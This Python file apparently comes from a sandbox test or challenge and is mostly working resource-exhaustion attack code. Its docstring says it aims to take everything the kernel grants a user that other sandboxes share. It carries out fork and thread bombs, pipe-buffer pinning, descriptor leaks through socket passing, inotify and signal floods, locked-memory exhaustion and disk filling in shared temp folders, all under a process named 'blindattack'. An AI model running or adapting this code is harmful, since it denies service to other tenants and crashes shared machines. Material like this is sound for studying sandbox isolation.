"""Takes all that the kernel gives to one user, and keeps it.

Other sandboxes may run as the same user.
"""

import array
import contextlib
import ctypes
import mmap
import os
import select
import signal
import socket
import threading
import time

F_SETPIPE_SZ = 1031
MOST = 20_000
libc = ctypes.CDLL(None, use_errno=True)


def processes():
    for _ in range(MOST):
        if not os.fork():
            signal.pause()


def threads():
    for _ in range(MOST):
        threading.Thread(target=time.sleep, args=(60,), daemon=True).start()


def pipe_pages():
    held = []
    for _ in range(MOST):
        source, sink = os.pipe()
        os.set_blocking(sink, False)
        libc.fcntl(sink, F_SETPIPE_SZ, 1 << 20)
        with contextlib.suppress(BlockingIOError):
            while os.write(sink, bytes(1 << 16)):
                pass
        held.append((source, sink))


def descriptors_in_flight():
    """Open files that are in nobody's table: sent through a socket, and never received."""
    for _ in range(MOST):
        one, other = socket.socketpair()
        one.sendmsg(
            [b"x"],
            [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [other.fileno()] * 200))],
        )
        one.detach()
        os.close(other.detach()) if other.fileno() > 3 else None


def watches():
    while True:
        watch = libc.inotify_init1(0)
        select.epoll()
        for folder in (b"/usr/lib", b"/usr/bin", b"/tmp", b"/"):
            libc.inotify_add_watch(watch, folder, 0xFFF)


def pending_signals():
    signal.pthread_sigmask(signal.SIG_BLOCK, signal.valid_signals())
    for _ in range(MOST * 10):
        libc.sigqueue(os.getpid(), signal.SIGRTMIN, 0)


def memory():
    held = []
    while True:
        page = mmap.mmap(-1, 8 << 20, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS)
        for at in range(0, 8 << 20, 4096):
            page[at] = 1
        libc.mlock(ctypes.byref(ctypes.c_char.from_buffer(page)), 8 << 20)
        held.append(page)


def stampede():
    """Each process within its own limit, all at the same moment."""
    gate, opened = os.pipe()
    for _ in range(12):
        if not os.fork():
            os.close(opened)
            os.read(gate, 1)
            held = bytearray(50 << 20)
            held[::4096] = bytes(len(held[::4096]))
            signal.pause()
    os.close(opened)


def folders():
    """Every file system that takes files is filled, with names too."""
    for folder in (".", "/tmp", "/dev/shm", "/run", "/var/tmp"):
        with contextlib.suppress(OSError):
            for number in range(MOST):
                with open(f"{folder}/blindattack-{number}", "wb") as file:
                    file.write(bytes(1 << 16))


WAYS = {
    way.__name__: way
    for way in (
        processes,
        threads,
        pipe_pages,
        descriptors_in_flight,
        watches,
        pending_signals,
        memory,
        stampede,
        folders,
    )
}


def solve(way):
    libc.prctl(15, b"blindattack")
    with contextlib.suppress(OSError, RuntimeError, MemoryError):
        WAYS[way]()
    time.sleep(60)
    return "answer-"
